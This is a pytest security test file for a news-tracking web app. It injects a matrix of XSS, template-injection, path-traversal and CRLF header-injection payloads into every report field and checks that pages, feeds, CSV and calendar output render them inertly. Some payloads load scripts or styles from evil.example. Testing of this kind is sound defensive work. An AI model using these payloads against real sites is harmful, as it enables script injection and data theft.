"""Reports written by somebody who means harm, in every field there is, are shown harmlessly on every page."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from html.parser import HTMLParser
from itertools import product
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit
from xml.etree import ElementTree as ET

import pytest

from foresay.desk import open_desk
from foresay.model.source import Drop, Source, SourceKind

pytest.importorskip("litestar")

pytestmark = [pytest.mark.model, pytest.mark.slow]

CORES = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><iframe srcdoc='<script>alert(1)</script>'>",
    "</title><script>alert(1)</script>",
    "</textarea><script src=//evil.example/x.js></script>",
    "<style>*{background:url(//evil.example)}</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=q>",
    "<a href=javascript:alert(1)>here</a>",
    "<object data=//evil.example></object>",
    "<math><mi xlink:href=data:x,<script>alert(1)</script>>",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{ 7 * 7 }}{% raw %}{{ cycler.__init__ }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    '" autofocus onfocus=alert(1) x="',
    "' style='position:fixed;inset:0' x='",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "../../../etc/passwd",
    "//evil.example/%2e%2e",
)
WRAPS = (
    "{}",
    "\u202e{}\u202c",
    "\u2066{}",
    "\x00{}\x1b[31m\x07",
    "{}\r\nSet-Cookie: a=b\r\n\r\n",
    "\u0085{}\u2028\u2029\ufeff",
    "ﷺ{}\u0300\u0300\u0300",
    "{}" + "a" * 3_000,
)
NOW = datetime(2026, 3, 1, tzinfo=UTC)
PAYLOADS = [wrap.replace("{}", core) for core, wrap in product(CORES, WRAPS)]
BAD = {chr(code) for code in (*range(0x09), 0x0B, 0x0C, *range(0x0E, 0x20), *range(0x7F, 0xA0), 0xFEFF)}
BAD |= {chr(code) for code in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))}
OURS = {"html", "head", "meta", "title", "link", "script", "body", "a", "header", "nav", "ul", "li", "form", "label"}
OURS |= {"input", "main", "footer", "p", "b", "button", "span", "dialog", "h1", "h2", "h3", "dl", "dt", "dd", "div"}
OURS |= {"kbd", "article", "time", "cite", "bdi", "bdo", "section", "ol", "code", "q", "sup", "mark", "pre", "table"}
OURS |= {"thead", "tbody", "tr", "th", "td", "svg", "line", "rect", "text", "circle", "g", "abbr", "select", "option"}
OURS |= {"figure", "blockquote", "figcaption", "fieldset", "legend", "use", "details", "summary", "ins", "del", "path"}


def write_reports(path: Path) -> Path:
    with path.open("w", encoding="utf-8") as out:
        for n, payload in enumerate(PAYLOADS):
            record = {
                "id": f"{n}-{payload}",
                "title": f"{payload} China will launch report {n}",
                "text": f"China will launch {payload} probe {n} in 2031, {payload} officials said.\n\n{payload}",
                "source": f"{payload} Wire",
                "url": payload if n % 2 else f"https://example.org/{n}?q={payload}",
                "author": payload,
                "authors": [payload],
                "kicker": payload,
                "published": f"2026-0{1 + n % 3}-1{n % 10}T0{n % 10}:00:00Z",
                "lang": "en",
            }
            out.write(json.dumps(record) + "\n")
    return path


@pytest.fixture(scope="module")
def harmed(tmp_path_factory: pytest.TempPathFactory, open_reports: Callable[[Path], Any]) -> Iterator[Any]:
    folder = tmp_path_factory.mktemp("hostile")
    with open_reports(write_reports(folder / "reports.jsonl")) as client:
        with open_desk(folder / "reports.desk") as desk:
            desk.store.write_sources([make_source(n, payload) for n, payload in enumerate(PAYLOADS)])
            desk.store.write_states([], [make_drop(n, payload) for n, payload in enumerate(PAYLOADS)])
        yield client


def make_source(n: int, payload: str) -> Source:
    text = payload.replace("\x00", "")
    return Source(
        id=f"s{n}", kind=SourceKind.FEED, address=f"{n} {text}", name=text, site=text, licence=text, added_at=NOW
    )


def make_drop(n: int, payload: str) -> Drop:
    text = payload.replace("\x00", "")
    return Drop(source=f"s{n}", item=text, reason=text, first_at=NOW, last_at=NOW)


class Inspector(HTMLParser):
    """Gathers whatever a page holds that is not of our own making."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = dict(attrs)
        if tag not in OURS or (tag == "script" and "src" not in names) or "http-equiv" in names:
            self.found.append(f"<{tag}>")
        self.found += [
            f"{name}={value}" for name, value in attrs if name.startswith("on") or name in {"style", "srcdoc"}
        ]
        for name, value in attrs:
            if name in {"href", "src", "action"}:
                self.check_address(tag, value or "")

    def check_address(self, tag: str, value: str) -> None:
        parts = urlsplit(value)
        is_ours = not parts.scheme and not parts.netloc and value[:1] in {"/", "#"} and value[:2] != "//"
        is_original = tag == "a" and parts.scheme == "https" and parts.hostname == "example.org"
        if not is_ours and not is_original:
            self.found.append(f"{tag} to {value}")

    def unknown_decl(self, data: str) -> None:
        self.found.append(f"<!{data}")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}")


def inspect(page: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(page)
    return inspector.found + [repr(char) for char in sorted(BAD & set(page))]


def test_there_are_enough_of_them() -> None:
    assert len(set(PAYLOADS)) >= 200


def test_inspector_sees_harm() -> None:
    for core in CORES[:16]:
        assert inspect(f"<p>{core}</p>"), core
    assert inspect("<p>\u202e</p>")


def test_each_report_is_shown_harmlessly(harmed: Any) -> None:
    hits = harmed.get("/search.json?q=china&n=400").json()["hits"]
    assert len({hit["article"] for hit in hits}) >= 200
    for hit in hits:
        answer = harmed.get(f"/a/{quote(hit['article'], safe='')}")
        assert answer.status_code == 200, hit["article"]
        assert inspect(answer.text) == [], hit["article"]


def test_lists_of_them_are_harmless(harmed: Any) -> None:
    paths = ["/", "/?since=2026-01-01", "/expectations", "/expectations?page=2", "/expectations?order=due&page=3"]
    paths += ["/search?q=launch&n=400", "/search?q=china", "/system", "/countries", "/country/CHN", "/region/Asia"]
    paths += ["/agreements", "/sources", "/decisions", "/entities", "/themes", "/pair/CHN-USA", "/records"]
    paths += ["/expectations/calendar?from=2031-01-01", "/expectations/calendar"]
    paths += [f"/agreement/{one['id']}" for one in harmed.get("/agreements.json").json()["agreements"]]
    paths += [f"/story/{one['id']}" for one in harmed.get("/country/CHN.json").json()["stories"]]
    for path in paths:
        answer = harmed.get(path)
        assert answer.status_code == 200, path
        assert inspect(answer.text) == [], path


def test_entries_of_the_ledger_are_harmless(harmed: Any) -> None:
    ids: list[str] = []
    for page in (1, 2, 3):
        ids += [entry["id"] for entry in harmed.get(f"/expectations.json?page={page}").json()["expectations"]]
    assert len(ids) > 50
    for id_ in ids:
        assert inspect(harmed.get(f"/x/{id_}").text) == [], id_


def test_what_is_typed_is_shown_harmlessly(harmed: Any) -> None:
    for payload in PAYLOADS:
        told = quote(payload, safe="")
        for path in (
            f"/search?q={told}",
            f"/entities?q={told}",
            f"/entities?country={told}&kind=x{told}",
            f"/expectations?q={told}",
            f"/expectations?country={told}",
            f"/{told}",
        ):
            answer = harmed.get(path)
            assert answer.status_code in {200, 400, 404}, path
            assert inspect(answer.text) == [], path


def test_sources_named_by_them_are_harmless(harmed: Any) -> None:
    for n in range(len(PAYLOADS)):
        answer = harmed.get(f"/source/s{n}")
        assert answer.status_code == 200
        assert inspect(answer.text) == [], n
    for page in range(1, 6):
        assert inspect(harmed.get(f"/sources?page={page}").text) == []


def test_feeds_of_them_are_sound(harmed: Any) -> None:
    for path in ("/today.atom?since=2026-01-01", "/expectations.atom", "/country/CHN.atom", "/search.atom?q=china"):
        feed = ET.fromstring(harmed.get(path).content)  # noqa: S314  # our own answer
        links = [link.get("href", "") for link in feed.iter("{http://www.w3.org/2005/Atom}link")]
        assert links
        assert all(link.startswith("http://127.0.0.1/") for link in links)
        assert {tag.tag.partition("}")[2] for tag in feed.iter()} <= {
            *("feed", "title", "id", "updated", "link", "generator", "entry", "author", "name", "summary"),
        }


def test_what_persons_write_is_harmless(harmed: Any) -> None:
    id_ = harmed.get("/expectations.json").json()["expectations"][0]["id"]
    for payload in PAYLOADS[::8]:
        token = re.search(r'name="token" value="(\w+)"', harmed.get(f"/x/{id_}").text)
        assert token is not None
        fields = {"token": token[1], "kind": "overrule", "outcome": "partly", "by": payload[:90], "reason": payload}
        fields |= {"decided_on": "2026-01-01"}
        answer = harmed.post(f"/x/{id_}/decide", data=fields, follow_redirects=False)
        assert answer.status_code in {303, 400}, payload
        assert inspect(answer.text) == []
    assert inspect(harmed.get(f"/x/{id_}").text) == []
    assert inspect(harmed.get("/decisions").text) == []


def test_names_they_made_are_harmless(harmed: Any) -> None:
    rows = harmed.get("/entities.json").json()["entities"]
    assert rows
    for row in rows:
        assert inspect(harmed.get(f"/entity/{row['id']}").text) == [], row["id"]
    for path in ("/entities", "/entities?kind=organisation", "/entities?kind=person", "/entities?country=CHN"):
        assert inspect(harmed.get(path).text) == [], path


def test_themes_of_theirs_are_harmless(harmed: Any) -> None:
    kept = 0
    token = re.search(r'name="token" value="(\w+)"', harmed.get("/themes").text)
    assert token is not None
    for n, payload in enumerate(PAYLOADS):
        asked = '"' + payload.replace('"', " ").replace("\\", " ")[:200] + '"'
        fields = {"token": token[1], "name": f"t{n}", "query": asked, "thesis": payload[:250]}
        answer = harmed.post("/themes/keep", data=fields, follow_redirects=False)
        kept += answer.status_code == 303
        assert inspect(answer.text) == [], payload
        if answer.status_code == 303 and n % 5 == 0:
            assert inspect(harmed.get(f"/theme/t{n}").text) == [], payload
    assert kept > 100
    for path in ("/themes", "/", "/themes?waits=%3Cscript%3E", "/themes?q=%22%3E%3Cscript%3E", "/theme/%3Cb%3E"):
        assert inspect(harmed.get(path).text) == [], path


def test_no_cell_of_the_sheet_is_a_formula(harmed: Any) -> None:
    rows = csv.reader(io.StringIO(harmed.get("/expectations.csv").text))
    assert [cell for row in rows for cell in row if cell[:1] in "=+-@\t\r" and cell not in {"", "+", "-"}] == []


def test_calendar_has_no_line_of_theirs(harmed: Any) -> None:
    lines = harmed.get("/expectations.ics").content.decode().split("\r\n")
    names = {line.partition(":")[0].partition(";")[0] for line in lines if line and not line.startswith(" ")}
    assert names <= {
        *("BEGIN", "END", "VERSION", "PRODID", "CALSCALE", "METHOD", "X-WR-CALNAME", "UID", "DTSTAMP", "SEQUENCE"),
        *("DTSTART", "DTEND", "SUMMARY", "DESCRIPTION", "CATEGORIES", "STATUS", "TRANSP"),
    }
